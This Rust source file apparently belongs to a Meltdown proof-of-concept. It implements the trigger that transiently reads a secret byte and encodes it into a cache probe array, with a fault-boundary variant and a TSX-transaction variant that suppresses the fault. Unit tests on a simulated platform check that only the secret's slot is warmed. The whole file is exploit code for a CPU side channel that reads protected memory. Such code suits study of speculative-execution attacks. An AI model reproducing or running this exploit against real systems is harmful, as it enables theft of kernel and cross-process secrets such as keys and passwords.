//! The transient read of the secret and the dependent probe load.

use crate::config::Config;
use crate::error::MeltdownError;
use cache_utils::fault::FaultBoundary;
use cache_utils::{Platform, ZeroGuard};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Variant {
    /// Rely on the out-of-order window after a faulting load. A fault is only
    /// survivable while a [`FaultBoundary`] is installed.
    Baseline,
    /// Wrap the leak in a hardware transaction; a fault aborts it silently.
    Hardened,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TriggerOutcome {
    /// Baseline sequence ran to the end, or its fault was resumed.
    Executed,
    Committed,
    Aborted,
}

pub struct Trigger {
    variant: Variant,
    shift: u32,
    guard: ZeroGuard,
    _boundary: Option<FaultBoundary>,
}

impl Trigger {
    pub fn new<P: Platform + ?Sized>(
        platform: &P,
        variant: Variant,
        config: &Config,
    ) -> Result<Trigger, MeltdownError> {
        let boundary = match variant {
            Variant::Hardened => {
                if !platform.supports_transactions() {
                    return Err(MeltdownError::Unsupported(
                        "no restricted transactional memory (RTM)",
                    ));
                }
                None
            }
            Variant::Baseline if config.contain_faults => {
                Some(FaultBoundary::install().map_err(MeltdownError::FaultBoundary)?)
            }
            Variant::Baseline => None,
        };
        Ok(Trigger {
            variant,
            shift: config.slot_shift,
            guard: config.zero_guard,
            _boundary: boundary,
        })
    }

    pub fn variant(&self) -> Variant {
        self.variant
    }

    /// Warm slot `*secret` of the array at `probe`.
    ///
    /// # Safety
    ///
    /// `probe` must span `256 << shift` readable bytes. `secret` must be
    /// readable, or its fault must be contained: always for `Hardened`, only
    /// with a fault boundary for `Baseline`.
    pub unsafe fn fire<P: Platform + ?Sized>(
        &self,
        platform: &P,
        secret: *const u8,
        probe: *const u8,
    ) -> TriggerOutcome {
        platform.store_fence();
        platform.serialize();
        match self.variant {
            Variant::Baseline => {
                unsafe { platform.transient_leak(secret, probe, self.shift, self.guard) };
                TriggerOutcome::Executed
            }
            Variant::Hardened => {
                let committed = unsafe {
                    platform.transactional_region(&mut || {
                        platform.transient_leak(secret, probe, self.shift, self.guard)
                    })
                };
                if committed {
                    TriggerOutcome::Committed
                } else {
                    TriggerOutcome::Aborted
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cache_side_channel::ObservationArray;
    use cache_utils::sim::SimulatedPlatform;

    fn config(zero_guard: ZeroGuard) -> Config {
        Config {
            zero_guard,
            contain_faults: false,
            pin_core: false,
            ..Default::default()
        }
    }

    #[test]
    fn warms_exactly_the_secret_slot() {
        for &variant in [Variant::Baseline, Variant::Hardened].iter() {
            let platform = SimulatedPlatform::new();
            let array = ObservationArray::for_bytes(12).unwrap();
            let trigger = Trigger::new(&platform, variant, &config(ZeroGuard::Retry(8))).unwrap();
            array.flush_all(&platform);
            let secret: u8 = 0x41;
            unsafe { trigger.fire(&platform, &secret, array.base()) };
            let resident = (0..256)
                .filter(|&i| platform.is_resident(array.slot(i)))
                .collect::<Vec<_>>();
            assert_eq!(resident, vec![0x41]);
        }
    }

    #[test]
    fn hardened_abort_is_silent_and_keeps_the_slot() {
        let platform = SimulatedPlatform::new().with_faulting_secret();
        let array = ObservationArray::for_bytes(12).unwrap();
        let trigger = Trigger::new(&platform, Variant::Hardened, &config(ZeroGuard::Retry(8))).unwrap();
        array.flush_all(&platform);
        let secret: u8 = 0x9c;
        let outcome = unsafe { trigger.fire(&platform, &secret, array.base()) };
        assert_eq!(outcome, TriggerOutcome::Aborted);
        assert!(platform.is_resident(array.slot(0x9c)));
    }

    #[test]
    fn hardened_needs_transactions() {
        let platform = SimulatedPlatform::new().without_transactions();
        let result = Trigger::new(&platform, Variant::Hardened, &config(ZeroGuard::Disabled));
        assert!(matches!(result, Err(MeltdownError::Unsupported(_))));
    }

    #[test]
    fn zero_guard_skips_rolled_back_reads() {
        let secret: u8 = 0x41;
        let array = ObservationArray::for_bytes(12).unwrap();

        let guarded = SimulatedPlatform::new().with_rolled_back_reads(5);
        let trigger = Trigger::new(&guarded, Variant::Hardened, &config(ZeroGuard::Retry(8))).unwrap();
        array.flush_all(&guarded);
        unsafe { trigger.fire(&guarded, &secret, array.base()) };
        assert!(guarded.is_resident(array.slot(0x41)));
        assert!(!guarded.is_resident(array.slot(0)));

        let naive = SimulatedPlatform::new().with_rolled_back_reads(5);
        let trigger = Trigger::new(&naive, Variant::Hardened, &config(ZeroGuard::Disabled)).unwrap();
        array.flush_all(&naive);
        unsafe { trigger.fire(&naive, &secret, array.base()) };
        assert!(naive.is_resident(array.slot(0)));
        assert!(!naive.is_resident(array.slot(0x41)));
    }
}
